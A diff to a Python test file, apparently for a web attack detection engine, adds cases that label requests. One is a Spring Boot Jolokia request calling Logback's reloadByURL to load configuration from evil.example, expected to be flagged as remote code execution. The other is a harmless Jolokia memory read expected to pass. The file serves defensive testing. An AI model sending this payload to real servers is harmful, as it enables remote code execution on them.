@@ -1913,6 +1913,24 @@ def test_plain_path_segments_are_no_points_of_their_own(engine: Engine) -> None:
             ),
             {"ssrf"},
         ),
+        # Spring Boot's Jolokia: Logback's configuration loaded from a URL (its JNDI).
+        (
+            Request(
+                "GET",
+                "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback"
+                ".classic.jmx.JMXConfigurator/reloadByURL/http:!/!/evil.example!/logback.xml",
+            ),
+            {"rce"},
+        ),
+        (
+            Request(
+                "POST",
+                "/jolokia",
+                JSON,
+                b'{"type":"read","mbean":"java.lang:type=Memory","attribute":"HeapMemoryUsage"}',
+            ),
+            set(),
+        ),
         (Request("GET", "/a?q=" + quote("cursor.execute(query)")), set()),
     ],
 )
